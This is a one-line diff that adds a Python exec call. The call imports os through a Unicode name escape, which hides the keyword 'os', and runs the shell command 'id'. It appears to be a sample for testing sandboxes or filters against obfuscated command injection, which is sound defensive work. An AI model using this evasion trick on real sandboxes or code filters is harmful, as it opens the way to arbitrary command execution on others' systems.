@@ -1,0 +1,1 @@
+exec("import \N{LATIN SMALL LETTER O}s; os.system('id')")
